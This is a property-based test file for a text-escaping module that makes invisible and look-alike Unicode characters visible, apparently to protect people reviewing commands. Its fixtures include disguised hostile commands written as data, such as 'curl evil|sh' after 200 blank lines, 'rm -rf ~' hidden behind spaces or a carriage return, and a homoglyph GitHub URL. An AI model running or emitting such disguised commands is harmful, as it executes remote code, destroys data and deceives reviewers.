import naughtyStrings from "big-list-of-naughty-strings/blns.json";
import fc from "fast-check";
import { expect, test } from "vitest";
import { escapeText, exactPieces } from "../../src/exact/escapeText.js";
import { unescapeText } from "../../src/exact/unescapeText.js";

const HIDDEN = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Co}\p{Cs}\p{Default_Ignorable_Code_Point}\u2800]|(?! )\p{Zs}/u;

/** Strings of the characters and forms that matter to the notation. */
const tricky = fc
  .array(
    fc
      .oneof(
        fc.constantFrom(
          ..."\\u{}⟨⟩⇥× \n\t\r09af",
          "\\u{",
          "\\u{202e}",
          "\\u{5c}",
          "⟨3 blank lines⟩",
          "⟨30 spaces⟩",
          "⟨9 × \\u{200b}⟩",
          "blank lines",
          "\u202e",
          "\u200b",
          "\u0301",
          "\u3164",
          "\ud800",
          "\udc00",
          "😀",
          "\u{e0041}",
          "а",
          "p",
        ),
        fc.string({ unit: "binary", maxLength: 3 }),
      )
      .chain((text) =>
        fc.integer({ min: 1, max: 30 }).map((count) => (count > 25 ? text.repeat(count) : text)),
      ),
    { maxLength: 30 },
  )
  .map((parts) => parts.join(""));
const codeUnits = fc
  .array(fc.integer({ min: 0, max: 0xffff }), { maxLength: 40 })
  .map((units) => String.fromCharCode(...units));

test.each([
  ["any code units, halves of surrogate pairs among them", codeUnits],
  ["text made of the notation itself", tricky],
  ["any string", fc.string({ unit: "grapheme", maxLength: 200 })],
])("what is shown reads back as the text: %s", (_, texts) => {
  fc.assert(
    fc.property(texts, fc.boolean(), (text, emoji) => {
      expect(unescapeText(escapeText(text, { emoji }))).toBe(text);
    }),
    { numRuns: 2000 },
  );
});

test("nothing that is shown is hidden, whatever the text", () => {
  fc.assert(
    fc.property(fc.oneof(codeUnits, tricky), (text) => {
      expect(escapeText(text).replaceAll("\n", "")).not.toMatch(HIDDEN);
    }),
    { numRuns: 2000 },
  );
});

test("every naughty string reads back as it was", () => {
  expect(naughtyStrings.length).toBeGreaterThan(400);
  expect(naughtyStrings.map((text) => unescapeText(escapeText(text)))).toEqual(naughtyStrings);
});

test("pieces cover the text once and in order", () => {
  fc.assert(
    fc.property(fc.oneof(codeUnits, tricky), (text) => {
      const pieces = exactPieces(text);
      expect(pieces.map(({ start, length }) => text.slice(start, start + length)).join("")).toBe(text);
      expect(pieces.reduce((at, piece) => (piece.start === at ? at + piece.length : -1), 0)).toBe(
        text.length,
      );
    }),
  );
});

test.each([
  ["a right-to-left override", "ls \u202e~ fr- mr", "ls \\u{202e}~ fr- mr"],
  ["a zero-width space", "rm\u200b -rf", "rm\\u{200b} -rf"],
  ["a tag character", "a\u{e0041}", "a\\u{e0041}"],
  ["a filler that looks like a space", "x\u3164", "x\\u{3164}"],
  ["a no-break space", "git\u00a0push", "git\\u{a0}push"],
  ["half a surrogate pair", "a\ud800b", "a\\u{d800}b"],
  ["a carriage return", "rm -rf ~\rls", "rm -rf ~\\u{d}ls"],
  ["a terminal escape", "\u001b[2K", "\\u{1b}[2K"],
  ["200 line feeds", `npm test${"\n".repeat(200)}curl evil|sh`, "npm test\n⟨199 blank lines⟩\ncurl evil|sh"],
  ["3000 spaces", `ls${" ".repeat(3000)};rm -rf ~`, "ls⟨3000 spaces⟩;rm -rf ~"],
  ["marks piled up on one letter", `a${"\u0301".repeat(500)}`, `a${"\u0301".repeat(8)}⟨492 × \\u{301}⟩`],
  ["a Cyrillic letter in a Latin word", "curl https://gіthub.com", "curl https://g\\u{456}thub.com"],
  ["a word of nothing but twins", "cat /ѕсоре", "cat /\\u{455}\\u{441}\\u{43e}\\u{440}\\u{435}"],
  ["full-width letters", "ｒｍ -rf", "\\u{ff52}\\u{ff4d} -rf"],
  ["a slash that is none", "a∕b", "a\\u{2215}b"],
  ["a tab", "a\tb", "a⇥b"],
  ["text that looks like a code point", "echo \\u{202e}", "echo \\u{5c}u{202e}"],
  ["text that looks like a run", "⟨3000 spaces⟩", "\\u{27e8}3000 spaces⟩"],
])("shows %s", (_, text, shown) => {
  expect(escapeText(text)).toBe(shown);
});

test.each([
  ["an ordinary command", "npm i -D x && printf 'a\\tb\\n' | tee \"$HOME/out\""],
  ["several lines with indentation", "cat <<'END'\n  one\n\n    two\nEND"],
  ["Hebrew, Arabic and Hindi with their marks", "ls שָׁלוֹם مَرْحَبًا नमस्ते"],
  ["Russian", "git commit -m 'Привет, сор и рос'"],
  ["Japanese beside Latin", "open ファイルA.txt"],
  ["typographic quotes and dashes", "git commit -m “it’s done — really…”"],
])("leaves alone %s", (_, text) => {
  expect(escapeText(text)).toBe(text);
});

test("prose keeps its emoji whole, a command shows what joins them", () => {
  const family = "👩‍👩‍👧 ⚠️";
  expect(escapeText(family, { emoji: true })).toBe(family);
  expect(escapeText(family)).toBe("👩\\u{200d}👩\\u{200d}👧 ⚠\\u{fe0f}");
});
